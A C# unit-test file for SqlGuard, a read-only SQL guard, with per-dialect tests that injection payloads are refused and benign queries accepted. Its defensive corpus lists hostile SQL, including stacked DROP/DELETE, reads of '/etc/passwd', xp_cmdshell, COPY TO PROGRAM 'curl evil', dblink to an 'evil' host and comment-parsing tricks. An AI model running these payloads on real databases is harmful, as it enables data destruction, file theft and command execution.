using McpAnalyzers.Runtime;
using McpAnalyzers.TestCorpora;

namespace McpAnalyzers.Runtime.Tests;

/// <summary>
/// SqlGuard: identifier allowlist and quoting, and the read-only check against an injection corpus and, per dialect,
/// the payloads of <see cref="SqlPayloads"/> (each refused with its reason) and the queries of <see cref="SqlCorpus"/>
/// (each accepted unchanged).
/// </summary>
public sealed class SqlGuardTests
{
    public static TheoryData<string, SqlRefusal> Refused(SqlDialect dialect)
    {
        var data = new TheoryData<string, SqlRefusal>();
        foreach (var (sql, reason) in dialect switch
        {
            SqlDialect.PostgreSql => SqlPayloads.PostgreSql,
            SqlDialect.MySql => SqlPayloads.MySql,
            SqlDialect.SqlServer => SqlPayloads.SqlServer,
            SqlDialect.Sqlite => SqlPayloads.Sqlite,
            _ => SqlPayloads.Ansi,
        })
        {
            data.Add(sql, reason);
        }

        return data;
    }

    public static TheoryData<string> Accepted(SqlDialect dialect)
    {
        var data = new TheoryData<string>();
        foreach (var sql in dialect switch
        {
            SqlDialect.PostgreSql => SqlCorpus.PostgreSql,
            SqlDialect.MySql => SqlCorpus.MySql,
            SqlDialect.SqlServer => SqlCorpus.SqlServer,
            SqlDialect.Sqlite => SqlCorpus.Sqlite,
            _ => SqlCorpus.Ansi,
        })
        {
            data.Add(sql);
        }

        return data;
    }

    // (DisableDiscoveryEnumeration: some payloads hold \0 and lone \r, which test names should not carry)
    [Theory]
    [MemberData(nameof(Refused), SqlDialect.PostgreSql, DisableDiscoveryEnumeration = true)]
    public void PostgreSql_RefusesEveryPayload(string sql, SqlRefusal reason) => AssertRefused(sql, SqlDialect.PostgreSql, reason);

    [Theory]
    [MemberData(nameof(Refused), SqlDialect.MySql, DisableDiscoveryEnumeration = true)]
    public void MySql_RefusesEveryPayload(string sql, SqlRefusal reason) => AssertRefused(sql, SqlDialect.MySql, reason);

    [Theory]
    [MemberData(nameof(Refused), SqlDialect.SqlServer, DisableDiscoveryEnumeration = true)]
    public void SqlServer_RefusesEveryPayload(string sql, SqlRefusal reason) => AssertRefused(sql, SqlDialect.SqlServer, reason);

    [Theory]
    [MemberData(nameof(Refused), SqlDialect.Sqlite, DisableDiscoveryEnumeration = true)]
    public void Sqlite_RefusesEveryPayload(string sql, SqlRefusal reason) => AssertRefused(sql, SqlDialect.Sqlite, reason);

    [Theory]
    [MemberData(nameof(Refused), SqlDialect.Ansi, DisableDiscoveryEnumeration = true)]
    public void Ansi_RefusesEveryPayload(string sql, SqlRefusal reason) => AssertRefused(sql, SqlDialect.Ansi, reason);

    [Theory]
    [MemberData(nameof(Accepted), SqlDialect.PostgreSql, DisableDiscoveryEnumeration = true)]
    public void PostgreSql_AcceptsEveryQuery(string sql) => Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.PostgreSql));

    [Theory]
    [MemberData(nameof(Accepted), SqlDialect.MySql, DisableDiscoveryEnumeration = true)]
    public void MySql_AcceptsEveryQuery(string sql) => Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.MySql));

    [Theory]
    [MemberData(nameof(Accepted), SqlDialect.SqlServer, DisableDiscoveryEnumeration = true)]
    public void SqlServer_AcceptsEveryQuery(string sql) => Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.SqlServer));

    [Theory]
    [MemberData(nameof(Accepted), SqlDialect.Sqlite, DisableDiscoveryEnumeration = true)]
    public void Sqlite_AcceptsEveryQuery(string sql) => Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.Sqlite));

    [Theory]
    [MemberData(nameof(Accepted), SqlDialect.Ansi, DisableDiscoveryEnumeration = true)]
    public void Ansi_AcceptsEveryQuery(string sql) => Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.Ansi));

    /// <summary>The portable queries hold for every dialect, not only for Ansi's union of readings.</summary>
    [Theory]
    [InlineData(SqlDialect.PostgreSql)]
    [InlineData(SqlDialect.MySql)]
    [InlineData(SqlDialect.SqlServer)]
    [InlineData(SqlDialect.Sqlite)]
    public void PortableQueries_AreAcceptedInEveryDialect(SqlDialect dialect)
    {
        foreach (var sql in SqlCorpus.Ansi)
        {
            Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, dialect));
        }
    }

    /// <summary>Text one server runs and another reads as a comment or a string: each dialect judges it by its own rules.</summary>
    [Theory]
    [InlineData("SELECT 1 --x; DELETE FROM users", SqlDialect.PostgreSql, true)]
    [InlineData("SELECT 1 --x; DELETE FROM users", SqlDialect.Sqlite, true)]
    [InlineData("SELECT 1 --x; DELETE FROM users", SqlDialect.MySql, false)]
    [InlineData("SELECT 1 --x; DELETE FROM users", SqlDialect.Ansi, false)]
    [InlineData("SELECT $$; DELETE FROM users; $$", SqlDialect.PostgreSql, true)]
    [InlineData("SELECT $$; DELETE FROM users; $$", SqlDialect.MySql, false)]
    [InlineData("SELECT $$; DELETE FROM users; $$", SqlDialect.Sqlite, false)]
    [InlineData("SELECT 1 /* /* */ DELETE FROM users */", SqlDialect.PostgreSql, true)]
    [InlineData("SELECT 1 /* /* */ DELETE FROM users */", SqlDialect.SqlServer, true)]
    [InlineData("SELECT 1 /* /* */ DELETE FROM users */", SqlDialect.Sqlite, false)]
    [InlineData("SELECT 1 /* /* */ DELETE FROM users */", SqlDialect.MySql, false)]
    [InlineData("SELECT `delete` FROM t", SqlDialect.MySql, true)]
    [InlineData("SELECT `delete` FROM t", SqlDialect.PostgreSql, false)]
    [InlineData("SELECT [delete] FROM t", SqlDialect.SqlServer, true)]
    [InlineData("SELECT [delete] FROM t", SqlDialect.MySql, false)]
    [InlineData("SELECT 1 # x; DELETE FROM users", SqlDialect.MySql, true)]
    [InlineData("SELECT 1 # x; DELETE FROM users", SqlDialect.PostgreSql, false)]
    [InlineData("SELECT 'a\\'' ; DELETE FROM users; --'", SqlDialect.Sqlite, true)]
    [InlineData("SELECT 'a\\'' ; DELETE FROM users; --'", SqlDialect.PostgreSql, false)]
    [InlineData("SELECT 'It\\'s'", SqlDialect.MySql, false)]
    [InlineData("SELECT 'It''s'", SqlDialect.MySql, true)]
    [InlineData("SELECT sl\u00e9ep(5)", SqlDialect.PostgreSql, true)]
    [InlineData("SELECT sl\u00e9ep(5)", SqlDialect.SqlServer, false)]
    public void EachDialect_ReadsTheTextByItsOwnRules(string sql, SqlDialect dialect, bool accepted)
    {
        if (accepted)
        {
            Assert.Same(sql, SqlGuard.EnsureReadOnly(sql, dialect));
        }
        else
        {
            Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly(sql, dialect));
        }
    }

    [Fact]
    public void Messages_SayWhatWasRefusedAndWhy()
    {
        var spelled = Refusal("SELECT U&\"pg_\\0073leep\"(1)", SqlDialect.PostgreSql);
        Assert.Equal(SqlRefusal.ForbiddenFunction, spelled.Reason);
        Assert.Contains("pg_sleep (written U&\"pg_\\0073leep\")", spelled.Message, StringComparison.Ordinal);

        var escaped = Refusal("SELECT U&\"pg\\0073leep\"(1)", SqlDialect.PostgreSql);
        Assert.Equal(SqlRefusal.Ambiguous, escaped.Reason);
        Assert.Contains("Unicode escapes", escaped.Message, StringComparison.Ordinal);

        var quoted = Refusal("SELECT [master]..[XP_CMDSHELL]('dir')", SqlDialect.SqlServer);
        Assert.Contains("xp_cmdshell (written [XP_CMDSHELL])", quoted.Message, StringComparison.Ordinal);

        var executable = Refusal("SELECT /*!50000 sleep(5) */ 1", SqlDialect.MySql);
        Assert.Contains("/*!", executable.Message, StringComparison.Ordinal);
        Assert.Contains("runs its content", executable.Message, StringComparison.Ordinal);

        var hint = Refusal("SELECT /*+ SET_VAR(sql_mode = '') */ 1", SqlDialect.MySql);
        Assert.Contains("optimizer hint", hint.Message, StringComparison.Ordinal);

        var mode = Refusal("SELECT 'a\\'; DELETE FROM users; -- '", SqlDialect.MySql);
        Assert.Equal(SqlRefusal.MultipleStatements, mode.Reason);
        Assert.Contains("NO_BACKSLASH_ESCAPES", mode.Message, StringComparison.Ordinal);

        var ansi = Refusal("SELECT 1 --x; DELETE FROM users", SqlDialect.Ansi);
        Assert.Contains("Read as MySQL", ansi.Message, StringComparison.Ordinal);
        Assert.Contains("pass the server's dialect", ansi.Message, StringComparison.Ordinal);

        var undecodable = Refusal("SELECT U&\"pg\\zzzzleep\"(1)", SqlDialect.PostgreSql);
        Assert.Contains("cannot be decoded", undecodable.Message, StringComparison.Ordinal);

        var collation = Refusal("SELECT [xp_cmdsh\u00e9ll]('dir')", SqlDialect.SqlServer);
        Assert.Contains("collation", collation.Message, StringComparison.Ordinal);

        var locking = Refusal("SELECT * FROM users FOR SHARE", SqlDialect.PostgreSql);
        Assert.Contains("FOR SHARE", locking.Message, StringComparison.Ordinal);

        // a refusal in the first reading carries no reading note
        Assert.DoesNotContain("Read as", Refusal("SELECT pg_sleep(1)", SqlDialect.Ansi).Message, StringComparison.Ordinal);
    }

    private static void AssertRefused(string sql, SqlDialect dialect, SqlRefusal reason)
    {
        var exception = Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly(sql, dialect));
        Assert.True(reason == exception.Reason, $"{dialect}: expected {reason}, got {exception.Reason}: {exception.Message}");
        Assert.False(string.IsNullOrWhiteSpace(exception.Message));
    }

    private static SqlGuardException Refusal(string sql, SqlDialect dialect)
        => Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly(sql, dialect));

    public static TheoryData<string> InjectionCorpus()
    {
        var data = new TheoryData<string>();
        foreach (var payload in new[]
        {
            "SELECT * FROM users; DROP TABLE users",
            "SELECT 1; DELETE FROM users",
            "SELECT 1;DELETE FROM users --",
            "select 1 ;\n update users set admin = true",
            "DROP TABLE users",
            "delete from users",
            "INSERT INTO users VALUES (1)",
            "UPDATE users SET name = 'x'",
            "TRUNCATE users",
            "ALTER TABLE users ADD x int",
            "CREATE TABLE t (x int)",
            "GRANT ALL ON users TO public",
            "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
            "SELECT * INTO backup FROM users",
            "SELECT * FROM users FOR UPDATE",
            "SELECT pg_sleep(10)",
            "SELECT pg_catalog.pg_sleep(10)",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
            "COPY users TO PROGRAM 'curl evil'",
            "SELECT set_config('role', 'admin', false)",
            "EXEC xp_cmdshell 'dir'",
            "SELECT 1 EXEC('drop table users')",
            "SELECT * FROM OPENROWSET('SQLNCLI', 'server=evil', 'select 1')",
            "SELECT 1 WAITFOR DELAY '0:0:10'",
            "SELECT load_extension('/tmp/evil.so')",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            "PRAGMA writable_schema = 1",
            "SELECT sleep(10)",
            "SELECT benchmark(1000000, md5('x'))",
            "SELECT load_file('/etc/passwd')",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            "SELECT 1 /* comment */ ; DROP TABLE users",
            "SELECT 'a'';DROP TABLE users;--'; DROP TABLE users",
            "SELECT $$;$$; DROP TABLE users",
            "SELECT 'unterminated",
            "SELECT \"unterminated",
            "SELECT 1 /* never closed",
            "CALL do_things()",
            "DO $$ BEGIN PERFORM 1; END $$",
            "SET ROLE admin",
            "VACUUM",
            "LOCK TABLE users",
            "   ",
            "-- only a comment",
            "EXPLAIN ANALYZE DELETE FROM users",
            "BEGIN; DELETE FROM users; COMMIT",
            "SELECT nextval('seq')",
            "SELECT 1 UNION SELECT 2; SHUTDOWN",
        })
        {
            data.Add(payload);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(InjectionCorpus))]
    public void EnsureReadOnly_RefusesEveryPayload(string sql)
    {
        var exception = Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly(sql, SqlDialect.PostgreSql));
        Assert.False(string.IsNullOrWhiteSpace(exception.Message));
    }

    [Theory]
    [InlineData("SELECT id, name FROM users WHERE name = 'O''Brien'")]
    [InlineData("select count(*) from orders where status = 'delete; drop'")]
    [InlineData("WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent")]
    [InlineData("SELECT \"update\", \"delete\" FROM audit_columns")]
    [InlineData("SELECT 1;")]
    [InlineData("SELECT 1; -- trailing comment")]
    [InlineData("VALUES (1), (2)")]
    [InlineData("TABLE users")]
    [InlineData("SELECT $tag$ DROP TABLE users $tag$ AS text")]
    [InlineData("SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id /* join */ ORDER BY u.id LIMIT 10")]
    public void EnsureReadOnly_AcceptsQueries(string sql)
        => Assert.Equal(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.PostgreSql));

    [Fact]
    public void EnsureReadOnly_ReportsTheReason()
    {
        Assert.Equal(SqlRefusal.MultipleStatements, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT 1; SELECT 2")).Reason);
        Assert.Equal(SqlRefusal.NotAQuery, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("DELETE FROM t")).Reason);
        Assert.Equal(SqlRefusal.WriteOrCommand, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT * INTO x FROM t")).Reason);
        Assert.Equal(SqlRefusal.ForbiddenFunction, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT pg_sleep(1)")).Reason);
        Assert.Equal(SqlRefusal.Unterminated, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT 'x")).Reason);
    }

    [Theory]
    [InlineData("users", SqlDialect.PostgreSql, "\"users\"")]
    [InlineData("we\"ird", SqlDialect.Ansi, "\"we\"\"ird\"")]
    [InlineData("a]b", SqlDialect.SqlServer, "[a]]b]")]
    [InlineData("a`b", SqlDialect.MySql, "`a``b`")]
    public void QuoteIdentifier_DoublesTheQuote(string name, SqlDialect dialect, string expected)
        => Assert.Equal(expected, SqlGuard.QuoteIdentifier(name, dialect));

    [Theory]
    [InlineData("name; DROP TABLE users")]
    [InlineData("name\" ; DROP TABLE users; --")]
    [InlineData("(SELECT password FROM users)")]
    [InlineData("1=1")]
    [InlineData("")]
    [InlineData("na\0me")]
    public void Identifier_RefusesWhatIsNotAllowlisted(string payload)
        => Assert.Throws<SqlGuardException>(() => SqlGuard.Identifier(payload, new[] { "name", "created_at" }, SqlDialect.PostgreSql));

    [Fact]
    public void Identifier_ReturnsTheAllowlistSpellingQuoted()
        => Assert.Equal("\"created_at\"", SqlGuard.Identifier("CREATED_AT", new[] { "name", "created_at" }, SqlDialect.PostgreSql));
}
